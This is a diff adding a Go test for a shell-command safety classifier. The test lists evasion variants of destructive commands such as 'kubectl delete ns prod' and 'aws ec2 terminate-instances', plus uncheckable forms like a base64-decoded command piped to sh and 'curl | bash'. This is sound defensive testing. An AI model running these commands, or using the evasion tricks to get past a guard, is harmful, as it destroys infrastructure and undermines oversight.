@@ -113,3 +113,60 @@ func FuzzClassifyCommandLine(f *testing.F) {
 		}
 	})
 }
+
+// TestClassifierEvasions lists ways to hide a destructive command from the
+// classifier: each must still be found destructive, or be refused as a
+// command that cannot be checked.
+func TestClassifierEvasions(t *testing.T) {
+	found := []string{
+		`eval "aws ec2 terminate-instances --instance-ids i-1"`,
+		`eval aws ec2 terminate-instances --instance-ids i-1`,
+		`busybox sh -c "kubectl delete ns prod"`,
+		`env -u HOME kubectl delete ns prod`,
+		`sudo -u root kubectl delete ns prod`,
+		`timeout -s KILL 10 kubectl delete ns prod`,
+		`nice -n 10 kubectl delete ns prod`,
+		`exec -a name kubectl delete ns prod`,
+		`echo i-1 | xargs -n 1 aws ec2 terminate-instances --instance-ids`,
+		`stdbuf -o0 kubectl delete ns prod`,
+		`watch -n 5 kubectl delete ns prod`,
+		`if true; then kubectl delete ns prod; fi`,
+		`{ kubectl delete ns prod; }`,
+		`for n in a b; do kubectl delete ns $n; done`,
+		`KUBECTL delete ns prod`,
+		`kubectl.exe delete ns prod`,
+		`kubectl --v 9 delete ns prod`,
+		`aws --cli-input-json file://x.json ec2 terminate-instances`,
+	}
+	for _, line := range found {
+		t.Run("finds "+line, func(t *testing.T) {
+			cmds, err := ClassifyCommandLine(line)
+			if err != nil {
+				t.Fatal(err)
+			}
+			worst := EffectUnknown
+			for _, c := range cmds {
+				worst = max(worst, c.Effect)
+			}
+			if worst != EffectDestructive {
+				t.Fatalf("worst effect %s, want destructive: %+v", worst, cmds)
+			}
+		})
+	}
+	refused := []string{
+		`K=kubectl; $K delete ns prod`,
+		`${K} delete ns prod`,
+		`/usr/bin/kube* delete ns prod`,
+		`echo a3ViZWN0bCBkZWxldGUgbnMgcHJvZA== | base64 -d | sh`,
+		`curl -s https://example.com/x | bash -s`,
+		"bash <<EOF\nkubectl delete ns prod\nEOF",
+		`bash <<< "kubectl delete ns prod"`,
+	}
+	for _, line := range refused {
+		t.Run("refuses "+line, func(t *testing.T) {
+			if cmds, err := ClassifyCommandLine(line); err == nil {
+				t.Fatalf("want an error, the command cannot be known before it runs; got %+v", cmds)
+			}
+		})
+	}
+}
